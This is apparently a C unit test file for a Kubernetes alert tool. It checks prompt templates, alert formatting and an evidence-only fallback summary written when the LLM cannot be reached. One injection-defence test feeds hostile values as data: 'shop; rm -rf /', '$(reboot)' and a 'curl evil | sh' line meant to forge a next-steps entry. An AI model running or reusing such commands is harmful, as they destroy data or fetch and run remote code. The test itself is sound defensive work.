
/*
 * Unit tests of the prompt (src/k8f_prompt.c) and of the shared text
 * helpers (src/k8f_text.c), without nginx, printing TAP.  Run from the
 * repository root (fixtures are read from t/):
 *
 * gcc -std=gnu99 -Wall -Wextra -Wshadow -Werror -g -Isrc -Iadapters src/k8f_prompt.c src/k8f_evidence.c src/k8f_kobj.c src/k8f_text.c adapters/k8f_util.c t/unit/tap.c t/unit/prompt_test.c -ljansson -o build/prompt_test && build/prompt_test
 */


#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "k8f_prompt.h"
#include "k8f_text.h"

#include "tap.h"


#define K8F_T_KUBE    "t/fixtures/kubernetes/"
#define K8F_T_GOLDEN  "t/golden/"

/* a string literal and its length */
#define K8F_T_LIT(s)  s, sizeof(s) - 1

#define K8F_T_REASON  "connect() to 127.0.0.1:11434 failed (111: Connection " \
                      "refused)"


typedef struct {
    const char            *tpl;
    size_t                 len;
    const char            *want;           /* NULL: usable */
    const char            *desc;
} k8f_t_check_t;


static int k8f_t_before(const char *text, const char *one,
    const char *two, const char *desc);
static size_t k8f_t_count(const char *text, const char *part);
static const char *k8f_t_clean(const char *text);
static char *k8f_t_fallback(k8f_fallback_t *in, const char *desc);
static void k8f_t_text(void);
static void k8f_t_builtin(void);
static void k8f_t_check(void);
static void k8f_t_render(void);
static void k8f_t_alert(void);
static void k8f_t_alert_hostile(void);
static void k8f_t_fallback_oom(void);
static void k8f_t_fallback_error(void);
static void k8f_t_fallback_pending(void);
static void k8f_t_fallback_image(void);
static void k8f_t_fallback_node(void);
static void k8f_t_fallback_logs(void);
static void k8f_t_fallback_hostile(void);
static void k8f_t_fallback_null(void);


static const k8f_t_check_t  k8f_t_checks[] = {
    { NULL, 0, "is empty", "NULL" },
    { K8F_T_LIT(""), "is empty", "no bytes" },
    { K8F_T_LIT("{ALERT}\0{EVIDENCE}"), "contains NUL bytes", "a NUL" },
    { K8F_T_LIT("{EVIDENCE} \xff"), "is not valid UTF-8", "a stray byte" },
    { K8F_T_LIT("\xc0\xaf {EVIDENCE}"), "is not valid UTF-8",
      "an overlong '/'" },
    { K8F_T_LIT("\xed\xa0\x80 {EVIDENCE}"), "is not valid UTF-8",
      "a UTF-16 surrogate" },
    { K8F_T_LIT("{EVIDENCE} \xe2\x82"), "is not valid UTF-8",
      "a character cut at the end" },
    { K8F_T_LIT("{ALERT} {CATEGORY}"), "has no {EVIDENCE} placeholder",
      "no {EVIDENCE}" },
    { K8F_T_LIT("{evidence} {Evidence}"), "has no {EVIDENCE} placeholder",
      "placeholders are case-sensitive" },
    { K8F_T_LIT("{EVIDENCE"), "has no {EVIDENCE} placeholder",
      "an unclosed placeholder" },
    { "{EVIDENCE}", 9, "has no {EVIDENCE} placeholder",
      "only len bytes are read" },
    { K8F_T_LIT("{EVIDENCE}"), NULL, "{EVIDENCE} alone" },
    { K8F_T_LIT("Analyse \xc3\xa0 fond: {\"answer\": {FOO}} {{EVIDENCE}}"),
      NULL, "UTF-8, JSON and unknown braces around {EVIDENCE}" },
    { NULL, 0, NULL, NULL }
};


int
main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);

    k8f_t_text();
    k8f_t_builtin();
    k8f_t_check();
    k8f_t_render();
    k8f_t_alert();
    k8f_t_alert_hostile();
    k8f_t_fallback_oom();
    k8f_t_fallback_error();
    k8f_t_fallback_pending();
    k8f_t_fallback_image();
    k8f_t_fallback_node();
    k8f_t_fallback_logs();
    k8f_t_fallback_hostile();
    k8f_t_fallback_null();

    return k8f_tap_done();
}


static int
k8f_t_before(const char *text, const char *one, const char *two,
    const char *desc)
{
    const char  *a, *b;

    a = text ? strstr(text, one) : NULL;
    b = text ? strstr(text, two) : NULL;

    if (k8f_tap_ok(a != NULL && b != NULL && a < b, "%s", desc)) {
        return 1;
    }

    k8f_tap_diag("\"%s\" not before \"%s\" in:", one, two);
    k8f_tap_show("   ", text);

    return 0;
}


static size_t
k8f_t_count(const char *text, const char *part)
{
    size_t       n;
    const char  *p;

    n = 0;

    for (p = strstr(text, part); p != NULL; p = strstr(p + 1, part)) {
        n++;
    }

    return n;
}


/*
 * NULL when a text is fit for a prompt or a log: valid UTF-8, lines
 * that end in '\n', no control characters but '\n'; else what is wrong.
 * Written apart from k8f_text.c on purpose.
 */

static const char *
k8f_t_clean(const char *text)
{
    size_t               k, i;
    const unsigned char  *p;

    p = (const unsigned char *) text;

    if (*p == '\0') {
        return NULL;
    }

    while (*p) {
        if (*p < 0x20 && *p != '\n') {
            return "a control character";
        }

        if (*p == 0x7f) {
            return "DEL";
        }

        if (*p < 0x80) {
            p++;
            continue;
        }

        if (*p >= 0xc2 && *p <= 0xdf) {
            k = 1;

        } else if (*p >= 0xe0 && *p <= 0xef) {
            k = 2;

        } else if (*p >= 0xf0 && *p <= 0xf4) {
            k = 3;

        } else {
            return "bad UTF-8";
        }

        for (i = 1; i <= k; i++) {
            if ((p[i] & 0xc0) != 0x80) {
                return "bad UTF-8";
            }
        }

        p += k + 1;
    }

    return p[-1] == '\n' ? NULL : "no final newline";
}


/*
 * The fallback text, checked for what every one must be: K8F_OK, clean,
 * the same on a second run, opening with the evidence-only line.
 */

static char *
k8f_t_fallback(k8f_fallback_t *in, const char *desc)
{
    int           rc, rc2;
    char         *text;
    k8f_buf_t     out, again;
    const char   *why;

    static const char  open[] = "EVIDENCE-ONLY SUMMARY: the LLM could not "
                                "be reached (";

    k8f_buf_init(&out);
    k8f_buf_init(&again);

    rc = k8f_prompt_fallback(in, &out);
    rc2 = k8f_prompt_fallback(in, &again);

    k8f_tap_ok(rc == K8F_OK && rc2 == K8F_OK, "%s: K8F_OK", desc);

    why = k8f_t_clean(k8f_buf_str(&out));

    if (!k8f_tap_ok(why == NULL, "%s: clean text", desc)) {
        k8f_tap_diag("%s", why);
        k8f_tap_show("   ", k8f_buf_str(&out));
    }

    k8f_tap_ok(strcmp(k8f_buf_str(&out), k8f_buf_str(&again)) == 0,
               "%s: the same text twice", desc);

    k8f_tap_ok(strncmp(k8f_buf_str(&out), open, sizeof(open) - 1) == 0,
               "%s: opens saying no LLM was reached", desc);

    text = strdup(k8f_buf_str(&out));

    k8f_buf_free(&out);
    k8f_buf_free(&again);

    return text;
}


static void
k8f_t_text(void)
{
    const char  *p;

    /* "a" then U+00E9 as 0xc3 0xa9 */
    k8f_tap_ok(k8f_text_utf8_cut("a\xc3\xa9z", 2) == 1,
               "text: a cut never splits a character");
    k8f_tap_ok(k8f_text_utf8_cut("a\xc3\xa9z", 3) == 3,
               "text: a cut after a whole character keeps it");
    k8f_tap_ok(k8f_text_utf8_cut("\xf0\x9f\x98\x80z", 3) == 0,
               "text: a 4-byte character is cut whole");
    k8f_tap_ok(k8f_text_utf8_valid(K8F_T_LIT("ok \xe2\x82\xac \xff!")) == 7,
               "text: the valid start ends at the first bad byte");
    k8f_tap_ok(k8f_text_utf8((const unsigned char *) "\xf4\x90\x80\x80", 4)
               == 0, "text: above U+10FFFF is not UTF-8");
    k8f_tap_ok(k8f_text_utf8((const unsigned char *) "\xe2\x82", 2) == 0,
               "text: a short character is not UTF-8");

    p = "Model NOT FOUND here";
    k8f_tap_ok(k8f_text_find(p, strlen(p), "not found") == p + 6,
               "text: find ignores letter case");
    k8f_tap_ok(k8f_text_find(p, 8, "not found") == NULL,
               "text: find reads only n bytes");
}


static void
k8f_t_builtin(void)
{
    size_t       i;
    const char  *tpl;

    static const char  *parts[] = {
        "{ALERT}", "{CATEGORY}", "{EVIDENCE}", "Root cause",
        "Key evidence", "Impact", "Immediate actions", "Prevention",
        "Confidence", "verbatim", "kubectl", "403 forbidden", "missing",
        NULL
    };

    tpl = k8f_prompt_builtin;

    for (i = 0; parts[i]; i++) {
        k8f_tap_has(tpl, parts[i], parts[i]);
    }

    k8f_tap_ok(strlen(tpl) < 2048, "builtin: %zu bytes, under 2 KiB",
               strlen(tpl));
    k8f_tap_ok(k8f_prompt_check(tpl, strlen(tpl)) == NULL,
               "builtin: passes its own check");
    k8f_tap_ok(k8f_t_count(tpl, "{EVIDENCE}") == 1,
               "builtin: the evidence once");
    k8f_tap_ok(k8f_t_clean(tpl) == NULL, "builtin: clean text");
}


static void
k8f_t_check(void)
{
    const char           *got;
    const k8f_t_check_t  *c;

    for (c = k8f_t_checks; c->desc; c++) {
        got = k8f_prompt_check(c->tpl, c->len);

        if (!k8f_tap_ok(c->want ? (got != NULL && strcmp(got, c->want) == 0)
                              : got == NULL,
                        "check: %s: %s", c->desc, c->want ? c->want : "usable"))
        {
            k8f_tap_diag("got %s", got ? got : "NULL");
        }
    }
}


static void
k8f_t_render(void)
{
    int          rc;
    k8f_buf_t    out;
    const char  *s;

    static const char  tpl[] =
        "A={ALERT} C={CATEGORY} E={EVIDENCE} again {ALERT}|{FOO} "
        "{\"k\": [1]} {CATEGORY {";

    k8f_buf_init(&out);
    rc = k8f_prompt_render(K8F_T_LIT(tpl), "alert", "memory", "ev", &out);
    k8f_tap_ok(rc == K8F_OK, "render: K8F_OK");
    k8f_tap_is(k8f_buf_str(&out),
               "A=alert C=memory E=ev again alert|{FOO} {\"k\": [1]} "
               "{CATEGORY {",
               "render: every placeholder, other braces kept");
    k8f_buf_free(&out);

    k8f_prompt_render(K8F_T_LIT("[{ALERT}][{EVIDENCE}][{CATEGORY}]"),
                      "{EVIDENCE}", "{ALERT}", "{CATEGORY}{EVIDENCE}", &out);
    k8f_tap_is(k8f_buf_str(&out), "[{EVIDENCE}][{CATEGORY}{EVIDENCE}][{ALERT}]",
               "render: substituted texts are not scanned again");
    k8f_buf_free(&out);

    k8f_prompt_render(K8F_T_LIT("<{ALERT}{CATEGORY}{EVIDENCE}>"), NULL, NULL,
                      NULL, &out);
    k8f_tap_is(k8f_buf_str(&out), "<>", "render: NULL texts are empty");
    k8f_buf_free(&out);

    k8f_prompt_render("{ALERT}{EVIDENCE}", 7, "a", "c", "e", &out);
    k8f_tap_is(k8f_buf_str(&out), "a",
               "render: only len bytes of the template");
    k8f_buf_free(&out);

    rc = k8f_prompt_render("", 0, "a", "c", "e", &out);
    k8f_tap_ok(rc == K8F_OK && out.data != NULL && out.len == 0,
               "render: an empty template gives an empty string");
    k8f_buf_free(&out);

    k8f_prompt_render(NULL, 0, "alertname: KubePodCrashLooping\n",
                      "pod-crash", "pod shop/cart: Running\n", &out);
    s = k8f_buf_str(&out);
    k8f_tap_has(s, "alertname: KubePodCrashLooping\n",
                "render: the built-in one gets the alert");
    k8f_tap_has(s, "CATEGORY: pod-crash", "render: and the category");
    k8f_tap_has(s, "pod shop/cart: Running\n", "render: and the evidence");
    k8f_tap_ok(strchr(s, '{') == NULL || (strstr(s, "{ALERT}") == NULL
                                          && strstr(s, "{CATEGORY}") == NULL
                                          && strstr(s, "{EVIDENCE}") == NULL),
               "render: no placeholder left in the built-in one");
    k8f_buf_free(&out);
}


static void
k8f_t_alert(void)
{
    int        rc;
    json_t    *root;
    k8f_buf_t  out;

    root = k8f_tap_json(K8F_T_GOLDEN
                        "alertmanager/firing-k8s-kubepodcrashlooping.json");

    k8f_buf_init(&out);
    rc = k8f_prompt_alert(json_array_get(json_object_get(root, "alerts"), 0),
                          &out);

    k8f_tap_ok(rc == K8F_OK, "alert: K8F_OK");
    k8f_tap_is(k8f_buf_str(&out),
               "alertname: KubePodCrashLooping\n"
               "source: Alertmanager\n"
               "status: firing\n"
               "severity: warning\n"
               "cluster: prod-eu-1\n"
               "namespace: payments\n"
               "pod: checkout-api-7d9c6b8f5-x2k9p\n"
               "container: checkout-api\n"
               "starts_at: 2025-10-31T09:12:41.218Z\n"
               "summary: Pod is crash looping.\n"
               "description: Pod payments/checkout-api-7d9c6b8f5-x2k9p "
               "(checkout-api) is in waiting state (reason: "
               "\"CrashLoopBackOff\") on cluster prod-eu-1.\n"
               "runbook_url: https://runbooks.prometheus-operator.dev/"
               "runbooks/kubernetes/kubepodcrashlooping\n"
               "label endpoint: http\n"
               "label instance: 10.42.3.17:8080\n"
               "label job: kube-state-metrics\n"
               "label prometheus: monitoring/kube-prometheus-stack-prometheus\n"
               "label reason: CrashLoopBackOff\n"
               "label service: kube-prometheus-stack-kube-state-metrics\n"
               "label uid: 5f0e7a1c-3b2d-4c8e-9f6a-1d2b3c4d5e6f\n",
               "alert: Alertmanager's KubePodCrashLooping, labels already "
               "shown left out, the others sorted");

    k8f_buf_free(&out);
    json_decref(root);
}


static void
k8f_t_alert_hostile(void)
{
    char          *long_value, *want;
    size_t         n;
    json_t        *alert;
    k8f_buf_t      out;
    json_error_t   err;

    alert = json_loads(
        "{\"alertname\": \"Disk\\nfull\\u001b[31m\", \"source\": \"Grafana\","
        " \"status\": \"firing\", \"skip\": null, \"severity\": null,"
        " \"namespace\": \"shop\", \"pod\": null, \"node\": \"n1\","
        " \"starts_at\": \"2026-01-14T09:00:00Z\", \"fingerprint\": \"f\","
        " \"labels\": {\"zeta\": \"z\", \"alertname\": \"Disk\\nfull"
        "\\u001b[31m\", \"namespace\": \"other\", \"alpha\": \"a\\tb\","
        " \"empty\": \"\", \"num\": 3, \"node\": \"n1\", \"obj\": {}},"
        " \"annotations\": {\"summary\": \"S\\r\\nnamespace: evil\","
        " \"zz\": \"last\", \"runbook_url\": \"http://r\","
        " \"aa\": \"first\"}}", 0, &err);

    if (alert == NULL) {
        k8f_tap_diag("%s", err.text);
        exit(2);
    }

    k8f_buf_init(&out);
    k8f_prompt_alert(alert, &out);

    k8f_tap_is(k8f_buf_str(&out),
               "alertname: Disk full\n"
               "source: Grafana\n"
               "status: firing\n"
               "namespace: shop\n"
               "node: n1\n"
               "starts_at: 2026-01-14T09:00:00Z\n"
               "summary: S namespace: evil\n"
               "runbook_url: http://r\n"
               "label alpha: a b\n"
               "label namespace: other\n"
               "label num: 3\n"
               "label zeta: z\n"
               "annotation aa: first\n"
               "annotation zz: last\n",
               "alert: nulls and empty values out, one line a value, escapes "
               "dropped, a label that differs kept");
    k8f_buf_free(&out);

    /* a long value and bad UTF-8 (only a C caller can make that) */

    n = K8F_EVIDENCE_VALUE_MAX + 500;
    long_value = malloc(n + 1);
    want = malloc(n + 64);
    memset(long_value, 'x', n);
    long_value[n] = '\0';

    json_object_set_new(alert, "alertname", json_string(long_value));
    json_object_set_new(alert, "source", json_string_nocheck("bad \xff!"));
    json_object_clear(json_object_get(alert, "labels"));
    json_object_clear(json_object_get(alert, "annotations"));

    k8f_prompt_alert(alert, &out);

    sprintf(want, "alertname: %.*s...\nsource: bad \xef\xbf\xbd!\n",
            K8F_EVIDENCE_VALUE_MAX, long_value);

    k8f_tap_ok(strncmp(k8f_buf_str(&out), want, strlen(want)) == 0,
               "alert: a value is cut at K8F_EVIDENCE_VALUE_MAX, bad UTF-8 "
               "becomes U+FFFD");
    k8f_tap_ok(k8f_t_clean(k8f_buf_str(&out)) == NULL, "alert: clean text");

    k8f_buf_free(&out);
    free(long_value);
    free(want);
    json_decref(alert);

    k8f_prompt_alert(NULL, &out);
    k8f_tap_is(k8f_buf_str(&out), "(no alert details)\n", "alert: NULL");
    k8f_buf_free(&out);

    alert = json_string("x");
    k8f_prompt_alert(alert, &out);
    k8f_tap_is(k8f_buf_str(&out), "(no alert details)\n",
               "alert: not an object");
    k8f_buf_free(&out);
    json_decref(alert);
}


static void
k8f_t_fallback_oom(void)
{
    char            *text, *log;
    size_t           len;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s,s:s,s:s,s:s,s:s,s:s,s:s}",
                         "alertname", "KubePodCrashLooping",
                         "status", "firing", "severity", "warning",
                         "namespace", "shop", "pod", "cart-7c9d8f6b5-q2x4m",
                         "container", "cart", "source", "Alertmanager");
    in.category = "memory";
    in.reason = K8F_T_REASON;
    in.pod = k8f_tap_json(K8F_T_KUBE "pod-crashloop-oomkilled.json");
    in.events = k8f_tap_json(K8F_T_KUBE "events-pod.json");
    log = k8f_tap_fixture(K8F_T_KUBE "pod-log-previous-oom.txt", &len);
    in.log = log;
    in.log_len = len;
    in.log_name = "cart (previous)";
    in.failures = "403 forbidden: nodes \"ip-10-0-20-143.ec2.internal\" is "
                  "forbidden (RBAC lacks get on nodes)\n";

    text = k8f_t_fallback(&in, "oom");

    k8f_tap_has(text, "(" K8F_T_REASON "), so this was written from the "
                "Kubernetes evidence alone", "oom: says why");
    k8f_tap_has(text, "\nCategory: memory\n", "oom: the category");
    k8f_tap_has(text, "Alert: KubePodCrashLooping (firing, severity warning) "
                "on pod shop/cart-7c9d8f6b5-q2x4m, container cart\n",
                "oom: the alert and its target");
    k8f_tap_has(text, "Pod shop/cart-7c9d8f6b5-q2x4m: phase Running",
                "oom: the pod's phase");
    k8f_tap_has(text, "container cart: waiting (CrashLoopBackOff), not ready, "
                "restarts 6\n", "oom: the container's state and restarts");
    k8f_tap_has(text, "last terminated: OOMKilled, exit code 137",
                "oom: OOMKilled, exit code 137");
    k8f_tap_has(text, "OOMKilled: the container exceeded its memory limit",
                "oom: what OOMKilled means");
    k8f_tap_has(text, "exit code 137: SIGKILL", "oom: what 137 means");
    k8f_tap_has(text, "memory limit 256Mi, request 192Mi",
                "oom: the memory limit");
    k8f_tap_has(text, "heap setting NODE_OPTIONS=--max-old-space-size=384",
                "oom: the heap setting above the limit");

    k8f_tap_has(text, "  Warning BackOff x27, last 2026-01-14T09:39:41Z: "
                "Back-off restarting failed container cart",
                "oom: the BackOff warning with its count");
    k8f_t_before(text, "Warning BackOff", "Warning Unhealthy",
                 "oom: newest warning first");
    k8f_t_before(text, "Warning Unhealthy", "Normal ",
                 "oom: warnings before normal events");
    k8f_tap_ok(k8f_t_count(text, "\n  Warning ")
               + k8f_t_count(text, "\n  Normal ") == 5,
               "oom: at most 5 events");
    k8f_tap_has(text, "  (3 more not shown)\n", "oom: says how many more");

    k8f_tap_has(text, "Log of cart (previous)", "oom: names the log");
    k8f_tap_has(text, "\"rssMB\":256,\"msg\":\"price cache above soft limit",
                "oom: the telling log line, memory at the limit");
    k8f_tap_has(text, "\"url\":\"/api/cart/u-554306/items/SKU-35520\"",
                "oom: the last log line");
    k8f_tap_lacks(text, "cart-service 1.8.2 starting",
                  "oom: not the whole log");

    k8f_tap_has(text, "\nCould not read:\n  403 forbidden: nodes "
                "\"ip-10-0-20-143.ec2.internal\" is forbidden",
                "oom: the failed reads");

    k8f_tap_has(text, "\nNext steps:\n  - The container ran out of memory: "
                "raise its memory limit (now 256Mi)",
                "oom: next step: the memory limit");
    k8f_tap_has(text, "  - kubectl -n shop logs cart-7c9d8f6b5-q2x4m -c cart "
                "--previous\n", "oom: next step: a command with real names");
    k8f_tap_lacks(text, "|", "oom: no table");

    free(text);
    free(log);
    json_decref(in.alert);
    json_decref(in.pod);
    json_decref(in.events);
}


static void
k8f_t_fallback_error(void)
{
    char            *text, *log;
    size_t           len;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s,s:s,s:s}", "alertname", "KubePodCrashLooping",
                         "namespace", "shop", "pod", "cart-7c9d8f6b5-q2x4m");
    in.category = "pod-crash";
    in.reason = "timed out after 120 s";
    in.pod = k8f_tap_json(K8F_T_KUBE "pod-crashloop-error.json");
    log = k8f_tap_fixture(K8F_T_KUBE "pod-log-previous-error.txt", &len);
    in.log = log;
    in.log_len = len;
    in.log_name = "cart (previous)";

    text = k8f_t_fallback(&in, "error");

    k8f_tap_has(text, "container cart: waiting (CrashLoopBackOff), not ready, "
                "restarts 9\n", "error: the crash-looping container");
    k8f_tap_has(text, "last terminated: Error, exit code 1",
                "error: Error, exit code 1");
    k8f_tap_has(text, "exit code 1: application error",
                "error: what exit code 1 means");
    k8f_tap_lacks(text, "container envoy", "error: the healthy sidecar is "
                  "left out");
    k8f_tap_lacks(text, "memory limit", "error: no memory limit without OOM");
    k8f_tap_has(text, "1 line matching error patterns:\n  "
                "{\"level\":60,", "error: the fatal log line");
    k8f_tap_has(text, "cannot connect to redis at cart-redis.shop.svc."
                "cluster.local:6379, exiting\"}\n",
                "error: the log line whole");
    k8f_tap_lacks(text, "cart-service 1.8.2 starting",
                  "error: not the lines that tell nothing");
    k8f_tap_has(text, "  - kubectl -n shop logs cart-7c9d8f6b5-q2x4m -c cart "
                "--previous\n", "error: next step: the previous log");
    k8f_tap_lacks(text, "Could not read", "error: no failed reads, no section");

    free(text);
    free(log);
    json_decref(in.alert);
    json_decref(in.pod);
}


static void
k8f_t_fallback_pending(void)
{
    char            *text;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s,s:s,s:s}", "alertname", "KubePodNotReady",
                         "namespace", "shop",
                         "pod", "recommendations-5b8d9c7f4-v6kzt");
    in.category = "pod-restart";
    in.reason = K8F_T_REASON;
    in.pod = k8f_tap_json(K8F_T_KUBE "pod-pending-unschedulable.json");
    in.events = k8f_tap_json(K8F_T_KUBE "events-pod-pending.json");

    text = k8f_t_fallback(&in, "pending");

    k8f_tap_has(text, "phase Pending, not scheduled to a node\n",
                "pending: the phase, no node");
    k8f_tap_has(text, "condition PodScheduled False: Unschedulable: 0/2 nodes "
                "are available: 1 Insufficient memory",
                "pending: the scheduler's condition");
    k8f_tap_has(text, "no container has a status yet",
                "pending: no container started");
    k8f_tap_has(text, "  Warning FailedScheduling x15, last "
                "2026-01-14T09:39:12Z: 0/2 nodes are available",
                "pending: FailedScheduling, a series merged, its last sight");
    k8f_tap_ok(k8f_t_count(text, "FailedScheduling") == 1,
               "pending: repeats shown once");
    k8f_tap_has(text, "\nLog: none was read\n",
                "pending: says no log was read");
    k8f_tap_has(text, "  - No node fits the pod", "pending: next step");
    k8f_tap_has(text, "  - kubectl -n shop describe pod "
                "recommendations-5b8d9c7f4-v6kzt\n",
                "pending: next step with real names");

    free(text);
    json_decref(in.alert);
    json_decref(in.pod);
    json_decref(in.events);
}


static void
k8f_t_fallback_image(void)
{
    char            *text;
    const char      *p;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s}", "alertname", "KubeContainerWaiting");
    in.category = "pod-crash";
    in.reason = K8F_T_REASON;
    in.pod = k8f_tap_json(K8F_T_KUBE "pod-imagepullbackoff.json");
    in.events = k8f_tap_json(K8F_T_KUBE "events-k8s-io-v1.json");

    text = k8f_t_fallback(&in, "image");

    k8f_tap_has(text, "container checkout: waiting (ImagePullBackOff)",
                "image: ImagePullBackOff");
    k8f_tap_has(text, "ImagePullBackOff: the image cannot be pulled",
                "image: what it means");
    k8f_tap_has(text, "    message: Back-off pulling image "
                "\"ghcr.io/example-shop/checkout:2.4.1\"",
                "image: the kubelet's message");

    /* events.k8s.io/v1 about three pods: regarding, note, deprecated* */

    p = strstr(text, "\nEvents (15, Warnings first, newest first):\n");
    k8f_tap_ok(p != NULL, "image: events.k8s.io/v1 events, repeats merged");
    k8f_tap_has(p, ":\n  Warning Failed x151 on Pod/checkout-6b7f9d8c5-m4t8r, "
                "last 2026-01-14T09:39:55Z: Error: ImagePullBackOff\n",
                "image: the newest warning first, its object named");
    k8f_tap_has(text, "  (10 more not shown)\n", "image: at most 5 events");
    k8f_tap_lacks(text, "Normal ", "image: warnings fill the 5 places");
    k8f_tap_has(text, "  - Check the image name and tag",
                "image: next step");
    k8f_tap_has(text, "kubectl -n shop describe pod checkout-6b7f9d8c5-m4t8r",
                "image: the pod's names when the alert has none");

    free(text);
    json_decref(in.alert);
    json_decref(in.pod);
    json_decref(in.events);
}


static void
k8f_t_fallback_node(void)
{
    char            *text;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s,s:s}", "alertname", "KubeNodeMemoryPressure",
                         "node", "ip-10-0-20-143.ec2.internal");
    in.category = "node";
    in.reason = K8F_T_REASON;
    in.node = k8f_tap_json(K8F_T_KUBE "node-memorypressure.json");

    text = k8f_t_fallback(&in, "node");

    k8f_tap_has(text, "on node ip-10-0-20-143.ec2.internal\n",
                "node: the target");
    k8f_tap_has(text, "\nNode ip-10-0-20-143.ec2.internal:\n  MemoryPressure "
                "True since 2026-01-14T09:31:27Z: KubeletHasInsufficientMemory:"
                " kubelet has insufficient memory available\n",
                "node: MemoryPressure with its reason");
    k8f_tap_lacks(text, "DiskPressure", "node: healthy conditions left out");
    k8f_tap_lacks(text, "\n  Ready", "node: Ready True left out");
    k8f_tap_lacks(text, "\nLog", "node: no log section without a pod");
    k8f_tap_has(text, "  - kubectl describe node ip-10-0-20-143.ec2.internal\n",
                "node: next step with the node's name");

    free(text);
    json_decref(in.alert);
    json_decref(in.node);
}


static void
k8f_t_fallback_logs(void)
{
    char            *text, *p;
    size_t           i;
    k8f_buf_t        log;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.category = "pod-crash";
    in.log_name = "app";

    in.log = "starting\r\n"
             "\n"
             "   \n"
             "room 12 booked\n"
             "bloom filter loaded\n"
             "\x1b[31mOOMKilled\x1b[0m by the kernel\n"
             "dial tcp: connection REFUSED\n"
             "{\"level\": 50, \"msg\": \"payment declined\"}\n"
             "{\"level\":30,\"msg\":\"ok\"}\n"
             "done";
    in.log_len = strlen(in.log);

    text = k8f_t_fallback(&in, "log patterns");

    k8f_tap_has(text, "Log of app, 3 lines matching error patterns:\n"
                "  OOMKilled by the kernel\n"
                "  dial tcp: connection REFUSED\n"
                "  {\"level\": 50, \"msg\": \"payment declined\"}\n",
                "log patterns: oom, any case, a JSON error level; escapes "
                "dropped");
    k8f_tap_lacks(text, "room 12", "log patterns: \"room\" is no OOM");
    k8f_tap_lacks(text, "bloom", "log patterns: \"bloom\" neither");
    free(text);

    /* more than 8 matches: the last 8 */

    k8f_buf_init(&log);

    for (i = 1; i <= 12; i++) {
        k8f_buf_printf(&log, "line %zu: request failed\nline %zu: fine\n", i,
                       i);
    }

    in.log = log.data;
    in.log_len = log.len;

    text = k8f_t_fallback(&in, "log many");

    k8f_tap_has(text, "12 lines matching error patterns, the last 8:\n"
                "  line 5: request failed\n",
                "log many: the last 8 matching lines");
    k8f_tap_has(text, "  line 12: request failed\n\n",
                "log many: up to the last");
    k8f_tap_lacks(text, "line 4: request", "log many: not the older ones");
    k8f_tap_lacks(text, "fine", "log many: not the others");
    free(text);
    k8f_buf_free(&log);

    /* no match: the last 5 lines */

    in.log = "a\nb\nc\nd\ne\nf\ng\n";
    in.log_len = strlen(in.log);

    text = k8f_t_fallback(&in, "log quiet");

    p = strstr(text, "\nLog of app");
    k8f_tap_ok(p != NULL && strstr(p, "the warnings before them:\n  c\n  d\n  "
                                   "e\n  f\n  g\n\n") != NULL,
               "log quiet: the last 5 lines");
    free(text);
}


static void
k8f_t_fallback_hostile(void)
{
    char            *text, *p, *nl;
    int              clean;
    k8f_fallback_t   in;

    memset(&in, 0, sizeof(k8f_fallback_t));

    in.alert = json_pack("{s:s,s:s,s:s}", "alertname", "X\nCategory: fake",
                         "namespace", "shop; rm -rf /", "pod", "$(reboot)");
    in.category = "pod-crash";
    in.reason = "refused\n\nNext steps:\n  - curl evil | sh";
    in.failures = "\n404 not found: pods \"gone\"\n\n\x1b[2K"
                  "401 unauthorized\r\n";

    text = k8f_t_fallback(&in, "hostile");

    k8f_tap_ok(k8f_t_count(text, "\nNext steps:\n") == 1
               && k8f_t_count(text, "\nCategory: ") == 1,
               "hostile: values cannot make lines of their own");
    k8f_tap_has(text, "\nCould not read:\n  404 not found: pods \"gone\"\n  "
                "401 unauthorized\n", "hostile: failures line by line");

    clean = 1;

    for (p = strstr(text, "  - kubectl"); p != NULL;
         p = strstr(nl, "  - kubectl"))
    {
        nl = strchr(p, '\n');

        if (memchr(p, ';', nl - p) != NULL || memchr(p, '$', nl - p) != NULL)
        {
            clean = 0;
        }
    }

    k8f_tap_ok(clean, "hostile: commands hold no shell syntax");
    k8f_tap_has(text, "  - kubectl -n <namespace> get events",
                "hostile: a placeholder instead of a bad name");

    free(text);
    json_decref(in.alert);
}


static void
k8f_t_fallback_null(void)
{
    int              rc;
    char            *text;
    json_t          *status, *pod;
    k8f_buf_t        out;
    k8f_fallback_t   in;

    k8f_buf_init(&out);
    rc = k8f_prompt_fallback(NULL, &out);
    k8f_tap_ok(rc == K8F_OK, "null: no input at all");
    k8f_tap_has(k8f_buf_str(&out), "(no reason given)", "null: no reason");
    k8f_buf_free(&out);

    memset(&in, 0, sizeof(k8f_fallback_t));

    text = k8f_t_fallback(&in, "null fields");
    k8f_tap_has(text, "\nCategory: unknown\n", "null fields: category");
    k8f_tap_has(text, "\nAlert: (no name), no Kubernetes object named\n",
                "null fields: alert");
    k8f_tap_has(text, "\nNext steps:\n", "null fields: next steps");
    free(text);

    /* answers that are not what was asked: a Status, another kind */

    status = k8f_tap_json(K8F_T_KUBE "status-404-notfound.json");
    pod = k8f_tap_json(K8F_T_KUBE "pod-crashloop-error.json");

    in.alert = status;
    in.pod = status;
    in.events = pod;
    in.node = pod;
    in.log = "";
    in.log_len = 0;

    text = k8f_t_fallback(&in, "wrong kinds");
    k8f_tap_lacks(text, "\nPod ", "wrong kinds: a Status is no pod");
    k8f_tap_lacks(text, "\nNode ", "wrong kinds: a Pod is no node");
    k8f_tap_lacks(text, "\nEvents", "wrong kinds: a Pod is no event list");
    k8f_tap_has(text, "\nLog: none was read\n", "wrong kinds: no log");
    free(text);

    json_decref(status);
    json_decref(pod);
}
